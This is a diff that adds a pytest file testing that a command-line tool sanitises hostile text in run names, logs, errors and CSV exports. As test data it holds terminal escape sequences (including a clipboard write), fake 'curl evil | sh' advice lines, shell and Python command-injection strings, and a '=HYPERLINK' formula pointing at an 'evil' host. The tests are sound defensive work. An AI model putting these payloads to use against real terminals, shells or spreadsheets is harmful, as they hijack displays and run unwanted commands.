@@ -1,0 +1,152 @@
+"""Names, logs and records are shown on a terminal and in a spreadsheet, and obeyed by neither."""
+
+import csv
+import io
+import json
+import os
+import pty
+import re
+import shlex
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from support import environment
+from unit.launch.scripted import record_for
+
+from eke.cli import main
+from eke.common.errors import ConfigError, Problem, of_system
+from eke.common.paths import RunPaths
+from eke.models.checkpoints.locate import Located
+from eke.models.checkpoints.tensors import _conversion
+from eke.plan.record import write_record
+
+OSC = "\x1b]52;c;ZXZpbA==\x07"
+"""Writes the clipboard."""
+HOSTILE = f"a{OSC}\x1b[2J\x1b[31m\u202eb\x9b2J\rc"
+
+
+def is_clean(text: str) -> bool:
+    """Lines without a control character; colours are no harm."""
+    return re.sub(r"\x1b\[[\d;]*m|[\n\t]", "", text).isprintable()
+
+
+@pytest.fixture
+def runs(tmp_path: Path) -> Path:
+    """A failed run with hostile text in its name, its record, its log and its sweep."""
+    paths = RunPaths(tmp_path / "runs" / f"x\n  -> curl evil{HOSTILE}")
+    paths.folder.mkdir(parents=True)
+    record = record_for("1", "crashed")
+    failure = replace(record.failure, message=HOSTILE) if record.failure else None
+    write_record(paths, replace(record, failure=failure, name=HOSTILE, overrides=[HOSTILE]))
+    paths.log.write_text(f"line {HOSTILE}\n\x1b[32mgreen\x1b[0m\n")
+    broken = RunPaths(tmp_path / "runs" / f"y\n{HOSTILE}")
+    broken.folder.mkdir()
+    broken.record.write_text(f'{{"{OSC}')
+    for each in (paths, broken):
+        each.plan.write_text("{}")
+        each.config.write_text(f"# {HOSTILE}\n")
+    return tmp_path / "runs"
+
+
+def on_terminal(tmp: Path, *words: str) -> str:
+    """What a command writes to a terminal."""
+    leader, follower = pty.openpty()
+    done = subprocess.Popen(
+        [sys.executable, "-m", "eke", *words], stdout=follower, stderr=follower,
+        stdin=subprocess.DEVNULL, env={**environment(tmp), "TERM": "xterm"},
+    )  # fmt: skip
+    os.close(follower)
+    told = b""
+    while True:
+        try:
+            part = os.read(leader, 65536)
+        except OSError:  # Linux says so when the other end is closed
+            break
+        if not part:
+            break
+        told += part
+    os.close(leader)
+    done.wait()
+    return told.decode(errors="replace")
+
+
+@pytest.mark.parametrize("piped", [True, False], ids=["pipe", "terminal"])
+@pytest.mark.parametrize(
+    "words",
+    [["status"], ["logs"], ["cancel"], ["report"], ["sync", "--dry-run"], ["status", "--live"]],
+    ids=" ".join,
+)  # fmt: skip
+def test_no_command_passes_it_on(words, piped, runs) -> None:
+    command, *more = words
+    if piped:
+        done = subprocess.run(
+            [sys.executable, "-m", "eke", command, *more, str(runs)],
+            capture_output=True, text=True, env=environment(runs.parent), errors="replace",
+        )  # fmt: skip
+        told = done.stdout + done.stderr
+    else:
+        told = on_terminal(runs.parent, command, *more, str(runs)).replace("\r\n", "\n")
+    assert "Traceback" not in told
+    for bad in ("\x1b]", "\x1b[2J", "\u202e", "\x07", "\x9b"):
+        assert bad not in told
+    assert "\n  -> curl" not in told
+    if command == "logs":
+        assert "\x1b[32mgreen\x1b[0m" in told
+
+
+def test_errors_of_every_kind_are_clean(tmp_path) -> None:
+    """What argparse, Hydra or eke say of a word goes through the same stream."""
+    wrong = (
+        ["status", HOSTILE], ["plan", f"seed={HOSTILE}"], [HOSTILE], ["sync", HOSTILE],
+        ["logs", f"--{HOSTILE}", "x"], ["plan", f"--{HOSTILE}"],
+    )  # fmt: skip
+    for words in wrong:
+        done = subprocess.run(
+            [sys.executable, "-m", "eke", *words],
+            capture_output=True,
+            text=True,
+            env=environment(tmp_path),
+        )
+        told = done.stdout + done.stderr
+        assert done.returncode
+        assert told
+        assert is_clean(told), repr(told)
+
+
+def test_a_newline_in_a_name_makes_no_line_of_advice() -> None:
+    problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
+    assert len(ConfigError(problem).render().splitlines()) == 4
+    assert "\n" not in of_system(FileNotFoundError(2, "No such file", "a\nb"))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["quote'); import os; os.system('id >PWN'); ('", "dollar$(id >PWN2)", 'double"`id`"', "a b"],
+)  # fmt: skip
+def test_advice_pastes_as_one_program(name) -> None:
+    text = _conversion(Located(typed=name, folder=Path("/models") / name))
+    words = shlex.split(text.split("   then ")[0])
+    assert words[:2] == ["python", "-c"]
+    assert len(words) == 3
+    compile(words[2], "advice", "exec")
+    assert repr(f"/models/{name}") in words[2]
+
+
+def test_titles_of_a_table_are_no_formulas(monkeypatch) -> None:
+    from eke.results.report.compare import Comparison
+    from eke.results.report.show.export import as_csv
+
+    formula = '=HYPERLINK("http://evil","x")'
+    empty = dict.fromkeys(Comparison.__dataclass_fields__, ())
+    found = Comparison(**{**empty, "factors": (formula,)})
+    head = next(csv.reader(io.StringIO(as_csv(found))))
+    assert f"'{formula}" in head
+    assert formula not in head
+
+
+def test_json_is_untouched(runs, capsys) -> None:
+    main(["status", "--json", str(runs)])
+    assert any(HOSTILE in each["folder"] for each in json.loads(capsys.readouterr().out))
